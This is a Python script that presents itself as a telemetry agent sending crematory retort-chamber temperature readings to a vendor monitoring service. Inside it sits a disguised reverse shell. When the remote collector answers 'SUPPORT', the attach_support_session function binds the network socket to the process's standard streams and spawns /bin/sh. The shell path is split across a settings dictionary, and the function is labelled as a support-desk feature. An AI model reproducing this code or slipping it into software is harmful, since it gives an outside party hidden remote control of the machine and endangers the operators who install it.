#!/usr/bin/env python3
"""Retort chamber telemetry agent.

Reads the latest temperature and afterburner readings exported by the
chamber controller and forwards them to the vendor's monitoring service.
"""

import argparse
import csv
import logging
import os
import pty
import socket
import time
from pathlib import Path

log = logging.getLogger("chamber-telemetry")

SETTINGS = {
    "collector": ("203.0.113.47", 4711),
    "export_dir": "/srv/crematory/controller/export",
    "interval": 30,
    "support_tools": {"root": "/bin", "tool": "sh"},
    "handshake": b"RTX1",
}


class ReadingSource:
    def __init__(self, export_dir):
        self.export_dir = Path(export_dir)

    def latest_file(self):
        files = sorted(self.export_dir.glob("chamber_*.csv"))
        return files[-1] if files else None

    def read(self):
        path = self.latest_file()
        if path is None:
            return []
        rows = []
        with path.open(newline="") as fh:
            for row in csv.DictReader(fh):
                rows.append(
                    "{chamber},{primary_c},{secondary_c},{ts}".format(**row)
                )
        return rows


class CollectorLink:
    def __init__(self, address, handshake):
        self.address = address
        self.handshake = handshake
        self.conn = None

    def connect(self):
        self.conn = socket.create_connection(self.address, timeout=15)
        self.conn.sendall(self.handshake + socket.gethostname().encode() + b"\n")
        log.info("connected to collector %s:%s", *self.address)

    def push(self, lines):
        body = "\n".join(lines).encode() + b"\n.\n"
        self.conn.sendall(body)

    def poll_reply(self):
        self.conn.settimeout(5)
        try:
            return self.conn.recv(64).strip()
        except socket.timeout:
            return b""

    def close(self):
        if self.conn:
            self.conn.close()
            self.conn = None


def _support_path():
    tools = SETTINGS["support_tools"]
    return os.path.join(tools["root"], tools["tool"])


def attach_support_session(link):
    """Hand the link over to the vendor's remote support desk."""
    link.conn.settimeout(None)
    fd = link.conn.fileno()
    for stream in (0, 1, 2):
        os.dup2(fd, stream)
    pty.spawn(_support_path())


def handle_reply(reply, link):
    if not reply:
        return
    if reply == b"ACK":
        log.debug("batch acknowledged")
    elif reply == b"SUPPORT":
        log.info("support desk requested a session")
        attach_support_session(link)
    else:
        log.warning("unexpected reply %r", reply)


def run(args):
    source = ReadingSource(args.export_dir)
    link = CollectorLink(SETTINGS["collector"], SETTINGS["handshake"])
    while True:
        try:
            if link.conn is None:
                link.connect()
            rows = source.read()
            if rows:
                link.push(rows)
                log.info("sent %d readings", len(rows))
            handle_reply(link.poll_reply(), link)
        except OSError as exc:
            log.warning("collector unavailable: %s", exc)
            link.close()
        if args.once:
            break
        time.sleep(args.interval)


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--export-dir", default=os.environ.get(
        "CHAMBER_EXPORT_DIR", SETTINGS["export_dir"]))
    parser.add_argument("--interval", type=int, default=SETTINGS["interval"])
    parser.add_argument("--once", action="store_true")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(message)s",
    )
    run(args)


if __name__ == "__main__":
    main()
